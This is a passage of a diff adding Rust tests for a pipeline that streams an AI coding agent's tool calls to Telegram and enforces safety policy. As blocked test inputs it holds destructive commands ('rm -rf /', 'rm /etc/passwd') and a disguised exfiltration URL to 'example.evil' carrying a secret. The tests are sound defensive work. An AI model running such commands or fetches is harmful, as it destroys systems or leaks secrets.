+                paths,
+                crate::domain::ChatId(1).into(),
+            );
+            let call = ModelEvent::Assistant {
+                raw: assistant_raw(
+                    "s1",
+                    vec![json!({"type":"tool_use","id":name,"name":name,"input":input})],
+                ),
+            };
+            let err = p.handle_event(call).await.unwrap_err();
+            assert!(err.to_string().contains("read-only"), "{name}: {err}");
+            assert_eq!(model.cancels().len(), 1, "{name}");
+            messenger.assert_sent_containing("🔒 Accesso negato (sola lettura)");
+        }
+        let _ = std::fs::remove_dir_all(&ro);
+    }
+
+    #[tokio::test]
+    async fn text_snapshot_prefix_diff_dedupes() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(cfg, model, messenger, crate::domain::ChatId(1).into());
+
+        p.handle_event(ModelEvent::Assistant {
+            raw: assistant_raw("s1", vec![json!({"type":"text","text":"hello"})]),
+        })
+        .await
+        .unwrap();
+        p.handle_event(ModelEvent::Assistant {
+            raw: assistant_raw("s1", vec![json!({"type":"text","text":"hello world"})]),
+        })
+        .await
+        .unwrap();
+
+        assert_eq!(p.text.segment_text(), "hello world");
+        assert_eq!(p.text.joined(), "hello world");
+    }
+
+    #[tokio::test]
+    async fn notices_are_shown_once_per_turn() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            cfg,
+            model,
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+
+        let token = "ℹ️ auth 123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw";
+        for text in [
+            "ℹ️ MCP <x> failed",
+            "ℹ️ deprecated flag",
+            "ℹ️ MCP <x> failed",
+            token,
+        ] {
+            p.handle_event(ModelEvent::Notice {
+                text: text.to_string(),
+            })
+            .await
+            .unwrap();
+        }
+
+        assert_eq!(
+            messenger.sends(),
+            [
+                "<i>ℹ️ MCP &lt;x&gt; failed</i>",
+                "<i>ℹ️ deprecated flag</i>",
+                "<i>ℹ️ auth [REDACTED]</i>"
+            ]
+        );
+    }
+
+    #[tokio::test]
+    async fn turn_output_is_capped_with_a_marker() {
+        let mut cfg = (*test_config()).clone();
+        cfg.max_turn_output_bytes = 16;
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            Arc::new(cfg),
+            model,
+            messenger,
+            crate::domain::ChatId(1).into(),
+        );
+
+        for snapshot in [
+            "0123456789",
+            "0123456789abcdefghij",
+            "0123456789abcdefghij!",
+        ] {
+            p.handle_event(ModelEvent::Assistant {
+                raw: assistant_raw("s1", vec![json!({"type":"text","text":snapshot})]),
+            })
+            .await
+            .unwrap();
+        }
+        let out = p.finish().await.unwrap();
+        assert_eq!(
+            out.text,
+            format!("0123456789abcdef\n\n{TRUNCATION_MARKER} (16 of 21 bytes kept)")
+        );
+    }
+
+    #[tokio::test]
+    async fn pipeline_counts_calls_and_appends_debug_timings() {
+        let mut cfg = (*test_config()).clone();
+        cfg.debug_timings = true;
+        cfg.streaming_throttle = Duration::from_secs(60);
+        let process = crate::metrics::ProcessMetrics::new();
+        let turn = Arc::new(TurnMetrics::new(process.clone()));
+        let messenger = Arc::new(RecordingMessenger::new());
+        let cfg = Arc::new(cfg);
+        let mut p = EventPipeline::with_turn_metrics(
+            cfg.clone(),
+            Arc::new(ScriptedModel::new()),
+            RunId::next(),
+            messenger.clone(),
+            PathPolicy::from_config(&cfg),
+            crate::domain::ChatId(1).into(),
+            turn.clone(),
+        );
+
+        for text in [
+            "The first sentence of the answer.",
+            "The first sentence of the answer. And a second one.",
+        ] {
+            p.handle_event(ModelEvent::Assistant {
+                raw: assistant_raw("s1", vec![json!({"type":"text","text":text})]),
+            })
+            .await
+            .unwrap();
+        }
+        p.finish().await.unwrap();
+
+        assert!(turn
+            .duration(crate::metrics::Histogram::TimeToFirstToken)
+            .is_some());
+        assert_eq!(process.counter(Counter::Turns), 1);
+        assert_eq!(process.counter(Counter::ThrottleSkips), 1);
+        assert_eq!(
+            process.counter(Counter::Sends),
+            messenger.sends().len() as u64
+        );
+        assert_eq!(
+            process.counter(Counter::Edits),
+            messenger.edits().len() as u64
+        );
+        let completion = messenger
+            .edits()
+            .into_iter()
+            .find(|(_, html)| html.starts_with("✅ Completed"))
+            .expect("completion edit");
+        assert!(completion.1.contains("\n🔧 ttft "), "{}", completion.1);
+    }
+
+    #[tokio::test]
+    async fn tool_use_splits_segments_and_formats_status() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            cfg,
+            model,
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+
+        p.handle_event(ModelEvent::Assistant {
+            raw: assistant_raw("s1", vec![json!({"type":"text","text":"hi"})]),
+        })
+        .await
+        .unwrap();
+
+        p.handle_event(ModelEvent::Assistant {
+      raw: assistant_raw(
+        "s1",
+        vec![json!({"type":"tool_use","name":"Write","input":{"file_path":"/tmp/x.txt","content":"hello"}})],
+      ),
+    })
+    .await
+    .unwrap();
+
+        assert_eq!(p.text.segment_id(), 1);
+        assert!(p.text.segment_text().is_empty());
+
+        let sent = messenger.sends();
+        assert!(
+            sent.iter().any(|s| s.contains("hi")),
+            "expected a segment_end message containing hi"
+        );
+        assert!(
+            sent.iter().any(|s| s.contains("Writing")),
+            "expected a tool status message for Write"
+        );
+    }
+
+    #[tokio::test]
+    async fn bash_unsafe_command_is_blocked_and_cancels() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            cfg,
+            model.clone(),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+
+        let err = p
+      .handle_event(ModelEvent::Assistant {
+        raw: assistant_raw(
+          "s1",
+          vec![json!({"type":"tool_use","name":"Bash","input":{"command":"rm /etc/passwd"}})],
+        ),
+      })
+      .await
+      .unwrap_err();
+
+        assert!(matches!(err, Error::Security(_)));
+        assert_eq!(model.cancels().len(), 1);
+        assert_eq!(model.last_cancel_reason(), Some(CancelReason::SafetyBlock));
+        assert!(
+            messenger.sends().iter().any(|s| s.contains("BLOCKED:")),
+            "expected a BLOCKED tool message"
+        );
+    }
+
+    #[tokio::test]
+    async fn blocked_command_is_audited_and_alerts_the_owner_chat() {
+        let audit = std::env::temp_dir().join(format!(
+            "ctb-pipeline-security-block-{}.jsonl",
+            std::process::id()
+        ));
+        let _ = std::fs::remove_file(&audit);
+        let mut cfg = (*test_config()).clone();
+        cfg.telegram_allowed_users = vec![1, 2];
+        cfg.security_alerts = true;
+        cfg.audit_log_path = audit.clone();
+        cfg.audit_log_json = true;
+        let monitor = Arc::new(SecurityMonitor::from_config(&cfg));
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let origin = ChatTarget::from(crate::domain::ChatId(2));
+        let mut p = test_pipeline(Arc::new(cfg), model.clone(), messenger.clone(), origin)
+            .with_requester(RunUser {
+                user_id: 2,
+                username: "bob".to_string(),
+                role: Role::Full,
+            })
+            .with_security_monitor(monitor.clone());
+
+        let err = p
+            .handle_event(ModelEvent::Assistant {
+                raw: assistant_raw(
+                    "s1",
+                    vec![json!({"type":"tool_use","name":"Bash","input":{"command":"rm -rf /"}})],
+                ),
+            })
+            .await
+            .unwrap_err();
+        assert!(matches!(err, Error::Security(_)), "{err}");
+
+        let events: Vec<_> = std::fs::read_to_string(&audit)
+            .unwrap()
+            .lines()
+            .filter_map(crate::utils::AuditEvent::parse_json_line)
+            .collect();
+        assert_eq!(events.len(), 1);
+        assert_eq!(events[0].event, "security_block");
+        assert_eq!(events[0].user_id, Some(2));
+        assert_eq!(events[0].reason.as_deref(), Some("command"));
+        assert_eq!(events[0].content.as_deref(), Some("rm -rf /"));
+        assert_eq!(monitor.counts()[0].blocks, 1);
+
+        let sends: Vec<(ChatTarget, String)> = messenger
+            .calls()
+            .into_iter()
+            .filter_map(|c| match c.call {
+                crate::messaging::test_support::Call::Send { target, html, .. } => {
+                    Some((target, html))
+                }
+                _ => None,
+            })
+            .collect();
+        let alerts: Vec<_> = sends.iter().filter(|(_, h)| h.contains("🛡")).collect();
+        assert_eq!(alerts.len(), 1, "{sends:?}");
+        assert_eq!(alerts[0].0, ChatTarget::from(crate::domain::ChatId(1)));
+        assert!(alerts[0].1.contains("@bob (2)"), "{}", alerts[0].1);
+        assert!(!sends.iter().any(|(t, h)| *t == origin && h.contains("🛡")));
+        let _ = std::fs::remove_file(&audit);
+    }
+
+    #[tokio::test]
+    async fn read_only_role_blocks_bash_and_writes_but_not_reads() {
+        let tool = |name: &str, input: serde_json::Value| ModelEvent::Assistant {
+            raw: assistant_raw(
+                "s1",
+                vec![json!({"type":"tool_use","name": name,"input": input})],
+            ),
+        };
+        let calls = [
+            ("Read", json!({"file_path": "/tmp/notes.txt"})),
+            ("Grep", json!({"pattern": "x", "path": "/tmp"})),
+            ("Bash", json!({"command": "ls /tmp"})),
+            (
+                "Write",
+                json!({"file_path": "/tmp/out.txt", "content": "x"}),
+            ),
+            (
+                "Edit",
+                json!({"file_path": "/tmp/out.txt", "old_string": "a", "new_string": "b"}),
+            ),
+        ];
+        // (role, tools that must be blocked)
+        let table: [(Role, &[&str]); 3] = [
+            (Role::ReadOnly, &["Bash", "Write", "Edit"]),
+            (Role::Full, &[]),
+            (Role::Owner, &[]),
+        ];
+        for (role, blocked) in table {
+            for (name, input) in &calls {
+                let model = Arc::new(ScriptedModel::new());
+                let messenger = Arc::new(RecordingMessenger::new());
+                let mut p = test_pipeline(
+                    test_config(),
+                    model.clone(),
+                    messenger.clone(),
+                    crate::domain::ChatId(1).into(),
+                )
+                .with_role(role);
+                let res = p.handle_event(tool(name, input.clone())).await;
+                if blocked.contains(name) {
+                    let err = res.unwrap_err();
+                    assert!(
+                        err.to_string().contains("Read-only access"),
+                        "{role:?} {name}: {err}"
+                    );
+                    assert_eq!(model.cancels().len(), 1, "{role:?} {name}");
+                    messenger.assert_sent_containing("read-only access");
+                } else {
+                    res.unwrap_or_else(|e| panic!("{role:?} {name}: {e}"));
+                    assert_eq!(model.cancels().len(), 0, "{role:?} {name}");
+                }
+            }
+        }
+    }
+
+    #[tokio::test]
+    async fn bash_outside_the_sandbox_wrapper_warns_or_blocks() {
+        let bash = |cmd: &str| ModelEvent::Assistant {
+            raw: assistant_raw(
+                "s1",
+                vec![json!({"type":"tool_use","name":"Bash","input":{"command": cmd}})],
+            ),
+        };
+        for enforcement in [SandboxEnforcement::Warn, SandboxEnforcement::Block] {
+            let mut cfg = (*test_config()).clone();
+            cfg.bash_sandbox_wrapper = Some("nice -n 19".to_string());
+            cfg.bash_sandbox_enforcement = enforcement;
+            let cfg = Arc::new(cfg);
+
+            let model = Arc::new(ScriptedModel::new());
+            let messenger = Arc::new(RecordingMessenger::new());
+            let mut p = test_pipeline(
+                cfg.clone(),
+                model.clone(),
+                messenger.clone(),
+                crate::domain::ChatId(1).into(),
+            );
+            p.handle_event(bash("nice -n 19 cargo build"))
+                .await
+                .unwrap();
+            assert_eq!(model.cancels().len(), 0);
+            assert!(!messenger
+                .sends()
+                .iter()
+                .any(|s| s.contains("Not run through")));
+
+            let model = Arc::new(ScriptedModel::new());
+            let messenger = Arc::new(RecordingMessenger::new());
+            let mut p = test_pipeline(
+                cfg,
+                model.clone(),
+                messenger.clone(),
+                crate::domain::ChatId(1).into(),
+            );
+            let res = p.handle_event(bash("cargo build")).await;
+            messenger.assert_sent_containing("Not run through nice -n 19: cargo");
+            if enforcement == SandboxEnforcement::Block {
+                assert!(matches!(res, Err(Error::Security(_))), "{res:?}");
+                assert_eq!(model.last_cancel_reason(), Some(CancelReason::SafetyBlock));
+            } else {
+                res.unwrap();
+                assert_eq!(model.cancels().len(), 0);
+            }
+        }
+    }
+
+    #[tokio::test]
+    async fn tools_outside_the_allowed_tools_are_blocked_and_cancel() {
+        let mut cfg = (*test_config()).clone();
+        cfg.claude_allowed_tools = Some(vec!["Read".to_string(), "Bash(git:*)".to_string()]);
+        let cfg = Arc::new(cfg);
+        let bash = |cmd: &str| ModelEvent::Assistant {
+            raw: assistant_raw(
+                "s1",
+                vec![json!({"type":"tool_use","name":"Bash","input":{"command": cmd}})],
+            ),
+        };
+
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            cfg.clone(),
+            model.clone(),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+        p.handle_event(bash("git status")).await.unwrap();
+        assert_eq!(model.cancels().len(), 0);
+
+        let res = p.handle_event(bash("curl example.com")).await;
+        assert!(matches!(res, Err(Error::Security(_))), "{res:?}");
+        assert_eq!(model.last_cancel_reason(), Some(CancelReason::SafetyBlock));
+        messenger.assert_sent_containing("🔒 BLOCKED: Command not in allowlist: curl");
+    }
+
+    #[tokio::test]
+    async fn web_fetch_outside_the_domain_policy_is_blocked_and_cancels() {
+        let mut cfg = (*test_config()).clone();
+        cfg.webfetch_allowed_domains = vec!["docs.rs".to_string()];
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            Arc::new(cfg),
+            model.clone(),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+
+        let fetch = |url: &str| ModelEvent::Assistant {
+            raw: assistant_raw(
+                "s1",
+                vec![
+                    json!({"type":"tool_use","name":"WebFetch","input":{"url": url, "prompt": "summarize"}}),
+                ],
+            ),
+        };
+        p.handle_event(fetch("https://docs.rs/tokio"))
+            .await
+            .unwrap();
+        assert_eq!(model.cancels().len(), 0);
+
+        let err = p
+            .handle_event(fetch("https://docs.rs@example.evil/?d=secret"))
+            .await
+            .unwrap_err();
+        assert!(matches!(err, Error::Security(_)), "{err}");
+        assert_eq!(model.cancels().len(), 1);
+        messenger.assert_sent_containing("🌐 Blocked fetch to example.evil");
+    }
+
+    #[tokio::test]
+    async fn budget_cancels_once_usage_crosses_threshold() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            cfg,
+            model.clone(),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+        // $0.01 at $15/M output tokens ~= 667 output tokens.
+        p.max_budget_usd = Some(0.01);
+
+        let usage_event = |id: &str, output_tokens: u64| ModelEvent::Assistant {
+            raw: json!({
+              "session_id": "s1",
+              "message": {
+                "id": id,
+                "content": [{"type": "text", "text": "x"}],
+                "usage": {"output_tokens": output_tokens}
+              }
+            }),
+        };
+
+        // Partial snapshots of the same message repeat cumulative usage: not double-counted.
+        p.handle_event(usage_event("m1", 500)).await.unwrap();
+        p.handle_event(usage_event("m1", 600)).await.unwrap();
+        assert_eq!(model.cancels().len(), 0);
+        assert!(!p.should_stop_early());
+
+        // A second message pushes the total to $0.012.
+        p.handle_event(usage_event("m2", 200)).await.unwrap();
+        assert_eq!(model.cancels().len(), 1);
+        assert_eq!(model.last_cancel_reason(), Some(CancelReason::Budget));
+        assert!(p.should_stop_early());
+        assert!(messenger
+            .sends()
+            .iter()
+            .any(|s| s.contains("Budget exceeded ($0.0120 of $0.0100)")));
+
+        let out = p.finish().await.unwrap();
+        assert!(out.budget_exceeded);
+        let notice = messenger.calls().into_iter().find_map(|c| match c.call {
+            Call::Send { html, msg, .. } if html.contains("Budget exceeded") => Some(msg),
+            _ => None,
+        });
+        assert!(
+            !messenger.deletes().contains(&notice.unwrap()),
+            "the notice stays"
+        );
+    }
+
+    #[tokio::test]
+    async fn budget_uses_result_total_cost() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            cfg,
+            model.clone(),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+        p.max_budget_usd = Some(0.5);
+
+        p.handle_event(ModelEvent::Result {
+            raw: json!({"type": "result", "result": "ok", "total_cost_usd": 0.4}),
+        })
+        .await
+        .unwrap();
+        assert_eq!(model.cancels().len(), 0);
+
+        p.handle_event(ModelEvent::Result {
+            raw: json!({"type": "result", "result": "ok", "total_cost_usd": 0.75}),
+        })
+        .await
+        .unwrap();
+        assert_eq!(model.cancels().len(), 1);
+    }
+
+    #[tokio::test]
+    async fn ask_user_scans_tmp_sends_keyboard_and_marks_sent() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+
+        let path = std::path::Path::new("/tmp/ask-user-test.json");
+        let payload = json!({
+          "status": "pending",
+          "chat_id": 1,
+          "question": "Pick one",
+          "options": ["a", "b"],
+          "request_id": "req123"
+        });
+        std::fs::write(path, serde_json::to_string(&payload).unwrap()).unwrap();
+
+        let mut p = test_pipeline(
+            cfg,
+            model.clone(),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+        p.handle_event(ModelEvent::Assistant {
+            raw: assistant_raw(
+                "s1",
+                vec![json!({"type":"tool_use","name":"mcp__ask-user__askUser","input":{}})],
+            ),
+        })
+        .await
+        .unwrap();
+
+        let out = p.finish().await.unwrap();
+        assert!(out.waiting_for_user);
+        assert_eq!(model.cancels().len(), 1);
+        assert_eq!(model.last_cancel_reason(), Some(CancelReason::AskUser));
+
+        let keyboards = messenger.keyboards();
+        assert!(!keyboards.is_empty(), "expected an inline keyboard send");
+
+        let updated: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
+        assert_eq!(updated.get("status").and_then(|s| s.as_str()), Some("sent"));
+    }
+
+    #[tokio::test]
+    async fn typing_pauses_during_tools_and_stops_after_ask_user() {
+        let dir = std::path::PathBuf::from(format!("/tmp/ctb-typing-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let mut cfg = (*test_config()).clone();
+        cfg.temp_dir = dir.clone();
+        let payload = json!({
+          "status": "pending",
+          "chat_id": 1,
+          "question": "Ship it?",
+          "options": ["yes", "no"],
+          "request_id": "typing1"
+        });
+        std::fs::write(dir.join("ask-user-typing1.json"), payload.to_string()).unwrap();
+
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            Arc::new(cfg),
+            Arc::new(ScriptedModel::new()),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+        let typing = || {
+            messenger
+                .calls()
+                .iter()
+                .filter(|c| matches!(c.call, Call::ChatAction { .. }))
+                .count()
+        };
+        let t0 = Instant::now();
+        let at = |secs: u64| t0 + Duration::from_secs(secs);
+
+        p.renew_typing(at(0)).await;
+        p.renew_typing(at(2)).await;
+        assert_eq!(typing(), 1, "renewed only every {TYPING_RENEW:?}");
+
+        let bash = json!({"type":"tool_use","id":"b1","name":"Bash","input":{"command":"make"}});
+        p.handle_event(ModelEvent::Assistant {
+            raw: assistant_raw("s1", vec![bash]),
+        })
+        .await
+        .unwrap();
+        p.renew_typing(at(10)).await;
+        assert_eq!(typing(), 1, "no typing while the tool runs");
+
+        p.handle_event(ModelEvent::ToolResult {
+            raw: json!({"type":"user","message":{"content":[
+                {"type":"tool_result","tool_use_id":"b1","content":"ok"}
+            ]}}),
+        })
+        .await
+        .unwrap();
+        p.renew_typing(at(11)).await;
+        assert_eq!(typing(), 2);
+
+        let anonymous = json!({"type":"tool_use","name":"Read","input":{"file_path":"/tmp/x"}});
+        p.handle_event(ModelEvent::Assistant {
+            raw: assistant_raw("s1", vec![anonymous]),
+        })
+        .await
+        .unwrap();
+        p.renew_typing(at(16)).await;
+        assert_eq!(
+            typing(),
+            3,
+            "a tool call without an id doesn't block typing"
+        );
+
+        let ask = json!({"type":"tool_use","id":"a1","name":"mcp__ask-user__ask_user","input":{}});
+        p.handle_event(ModelEvent::Assistant {
+            raw: assistant_raw("s1", vec![ask]),
+        })
+        .await
+        .unwrap();
+        assert!(!messenger.keyboards().is_empty());
+        p.renew_typing(at(20)).await;
+        p.tick_progress().await.unwrap();
+        assert_eq!(typing(), 3, "typing stops once the buttons are out");
+        let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    #[tokio::test]
+    async fn sync_ask_user_sends_keyboard_without_cancelling() {
+        let dir =
+            std::path::PathBuf::from(format!("/tmp/ctb-ask-user-sync-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let mut cfg = (*test_config()).clone();
+        cfg.temp_dir = dir.clone();
+        cfg.ask_user_sync = true;
+        let path = dir.join("ask-user-sync1.json");
+        let payload = json!({
+          "status": "pending",
+          "chat_id": 1,
+          "question": "Deploy?",
+          "options": ["yes", "no"],
+          "request_id": "sync1",
+          "sync": true
+        });
+        std::fs::write(&path, payload.to_string()).unwrap();
+
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        let mut p = test_pipeline(
+            Arc::new(cfg),
+            model.clone(),
+            messenger.clone(),
+            crate::domain::ChatId(1).into(),
+        );
+        p.handle_event(ModelEvent::Assistant {
+            raw: assistant_raw(
+                "s1",
+                vec![json!({"type":"tool_use","name":"mcp__ask-user__ask_user","input":{}})],
+            ),
+        })
+        .await
+        .unwrap();
+        assert!(!p.should_stop_early());
+        let out = p.finish().await.unwrap();
+
+        assert!(!out.waiting_for_user);
+        assert_eq!(model.cancels().len(), 0);
+        assert!(!messenger.keyboards().is_empty());
+        let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    #[tokio::test]
+    async fn ask_user_without_keyboards_sends_a_numbered_list() {
+        let dir =
+            std::path::PathBuf::from(format!("/tmp/ctb-ask-user-text-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let mut cfg = (*test_config()).clone();
+        cfg.temp_dir = dir.clone();
+        let path = dir.join("ask-user-txt1.json");
+        let payload = json!({
+          "status": "pending",
+          "chat_id": 1,
+          "question": "Pick one",
+          "options": ["a", "b"],
+          "request_id": "txt1"
+        });
+        std::fs::write(&path, payload.to_string()).unwrap();
+
+        let messenger = RecordingMessenger::send_only(4096);
+        assert!(
+            check_pending_ask_user_requests(&messenger, &cfg, crate::domain::ChatId(1).into())
+                .await
+                .unwrap()
+        );
+
+        assert_eq!(messenger.attempts(Op::Keyboard), 0);
+        messenger.assert_sent_containing("1. a\n2. b");
+        let updated: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
+        assert_eq!(updated["status"], "sent");
+        assert_eq!(updated["answer_mode"], ANSWER_MODE_TEXT);
+        let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    #[tokio::test]
+    async fn ask_user_requests_for_chats_outside_the_allowlist_are_ignored() {
+        let dir =
+            std::path::PathBuf::from(format!("/tmp/ctb-ask-user-foreign-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let mut cfg = (*test_config()).clone();
+        cfg.temp_dir = dir.clone();
+        cfg.group_mode = crate::config::GroupMode::Off;
+        let request = |id: &str, chat: i64| {
+            let path = dir.join(format!("ask-user-{id}.json"));
+            let payload = json!({
+              "status": "pending",
+              "chat_id": chat.to_string(),
+              "question": "Pick one",
+              "options": ["a", "b"],
+              "request_id": id
+            });
+            std::fs::write(&path, payload.to_string()).unwrap();
+            path
+        };
+        // A private chat that is not an allowed user, and a group while groups are off.
+        let planted = request("planted1", 666);
+        let group = request("group1", -100200);
+
+        for (path, chat) in [(&planted, 666), (&group, -100200)] {
+            let messenger = RecordingMessenger::new();
+            assert!(!check_pending_ask_user_requests(
+                &messenger,
+                &cfg,
+                crate::domain::ChatId(chat).into()
+            )
+            .await
+            .unwrap());
+            assert!(messenger.keyboards().is_empty());
+            let v: serde_json::Value =
+                serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
+            assert_eq!(v["status"], "pending");
+        }
+
+        cfg.group_mode = crate::config::GroupMode::Mention;
+        let messenger = RecordingMessenger::new();
+        assert!(check_pending_ask_user_requests(
+            &messenger,
+            &cfg,
+            crate::domain::ChatId(-100200).into()
+        )
+        .await
+        .unwrap());
+        let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    #[tokio::test]
+    async fn answer_after_ask_user_continues_the_suspended_messages() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+        // No request file for this chat: the pipeline gives up waiting for one quickly.
+        let target: ChatTarget = crate::domain::ChatId(4572).into();
+
+        let mut first = test_pipeline(cfg.clone(), model.clone(), messenger.clone(), target);
+        first
+            .handle_event(ModelEvent::Assistant {
+                raw: assistant_raw(
+                    "s1",
+                    vec![
+                        json!({"type":"text","text":"Before the question"}),
+                        json!({"type":"tool_use","id":"ask1","name":"mcp__ask-user__askUser","input":{}}),
+                    ],
+                ),
+            })
+            .await
+            .unwrap();
+        let out = first.finish().await.unwrap();
+        assert!(out.waiting_for_user);
+        let suspended = out.suspended.expect("suspended stream");
+        let progress = suspended
+            .stream
+            .progress_message()
+            .expect("progress message");
+        assert_eq!(suspended.next_segment_id, 1);
+        messenger.assert_edited_containing("Waiting for your answer");
+        messenger.assert_never_sent_containing("Completed");
+
+        let streams = SuspendedStreams::new(Duration::from_secs(60));
+        streams.stash(suspended);
+        let resumed = streams.take(target).expect("stashed stream");
+        assert!(streams.take(target).is_none(), "taken only once");
+
+        let sends_before = messenger.sends().len();
+        let mut second =
+            test_pipeline(cfg, model, messenger.clone(), target).with_suspended(resumed);
+        second.tick_progress().await.unwrap();
+        assert_eq!(
+            messenger.sends().len(),
+            sends_before,
+            "the old spinner is reused"
+        );
+        assert_eq!(messenger.edits().last().unwrap().0, progress);
+
+        second
+            .handle_event(ModelEvent::Assistant {
+                raw: assistant_raw("s1", vec![json!({"type":"text","text":"After the answer"})]),
+            })
+            .await
+            .unwrap();
+        let out = second.finish().await.unwrap();
+        assert!(!out.waiting_for_user && out.suspended.is_none());
+        messenger.assert_sent_containing("After the answer");
+        assert!(
+            !messenger
+                .edited_html()
+                .iter()
+                .any(|html| html.contains("After the answer")),
+            "segment 0 keeps the text from before the question"
+        );
+        messenger.assert_edited_containing("Completed");
+    }
+
+    #[test]
+    fn suspended_streams_expire_after_the_ttl() {
+        let target: ChatTarget = crate::domain::ChatId(1).into();
+        let suspended = || SuspendedStream {
+            stream: StreamingState::new(target),
+            next_segment_id: 3,
+        };
+
+        let streams = SuspendedStreams::new(Duration::from_millis(20));
+        streams.stash(suspended());
+        std::thread::sleep(std::time::Duration::from_millis(40));
+        assert!(streams.take(target).is_none());
+
+        let other: ChatTarget = crate::domain::ChatId(2).into();
+        streams.stash(suspended());
+        assert!(streams.take(other).is_none());
+        assert_eq!(streams.take(target).unwrap().next_segment_id, 3);
+
+        streams.stash(suspended());
+        streams.discard(target);
+        assert!(streams.take(target).is_none());
+    }
+
+    #[tokio::test]
+    async fn ask_user_waits_for_slow_request_file() {
+        let dir =
+            std::path::PathBuf::from(format!("/tmp/ctb-ask-user-slow-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let mut cfg = (*test_config()).clone();
+        cfg.temp_dir = dir.clone();
+        cfg.telegram_allowed_users.push(7);
+        cfg.ask_user_wait_timeout = Duration::from_secs(5);
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+
+        // Simulate an MCP server that only writes its request file after a cold start.
+        let path = dir.join("ask-user-slow1.json");
+        let writer_path = path.clone();
+        let writer = tokio::spawn(async move {
+            tokio::time::sleep(Duration::from_millis(1500)).await;
+            let payload = json!({
+              "status": "pending",
+              "chat_id": "7",
+              "question": "Deploy?",
+              "options": ["yes", "no"],
+              "request_id": "slow1"
+            });
+            std::fs::write(writer_path, serde_json::to_string(&payload).unwrap()).unwrap();
+        });
+
+        let mut p = test_pipeline(
+            Arc::new(cfg),
+            model.clone(),
+            messenger.clone(),
+            crate::domain::ChatId(7).into(),
+        );
+        p.handle_event(ModelEvent::Assistant {
+            raw: assistant_raw(
+                "s1",
+                vec![json!({"type":"tool_use","name":"mcp__ask-user__ask_user","input":{}})],
+            ),
+        })
+        .await
+        .unwrap();
+        writer.await.unwrap();
+
+        let out = p.finish().await.unwrap();
+        let _ = std::fs::remove_dir_all(&dir);
+        assert_eq!(out.text, "[Waiting for user selection]");
+        assert_eq!(messenger.keyboards().len(), 1);
+        assert_eq!(model.cancels().len(), 1);
+    }
+
+    #[tokio::test]
+    async fn parses_doc_fixtures_into_pipeline_output() {
+        let cfg = test_config();
+        let model = Arc::new(ScriptedModel::new());
+        let messenger = Arc::new(RecordingMessenger::new());
+
+        let base = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("../../../docs/rust-port/fixtures");
+
+        // (fixture, answer text, provider error)
+        for (fixture_name, expected, provider_error) in [
+            (
+                "claude-stream-json.sample.jsonl",
+                "",
+                Some("API Error: Connection error."),
+            ),
+            (
+                "claude-stream-json.invalid-api-key.jsonl",
+                "",
+                Some("Invalid API key · Fix external API key"),
+            ),
+            ("claude-stream-json.synthetic-tool-use.jsonl", "done", None),
+            (
+                "claude-stream-json.synthetic-tool-failure.jsonl",
+                "The test suite failed.",
+                None,
+            ),
+        ] {
+            let sends_before = messenger.sends().len();
+            let txt = std::fs::read_to_string(base.join(fixture_name)).unwrap();
+
+            let mut p = test_pipeline(
+                cfg.clone(),
+                model.clone(),
+                messenger.clone(),
+                crate::domain::ChatId(1).into(),
+            );
+            for line in txt.lines().filter(|l| !l.trim().is_empty()) {
+                let raw: serde_json::Value = serde_json::from_str(line).unwrap();
+                p.handle_event(ModelEvent::from_stream_json(raw))
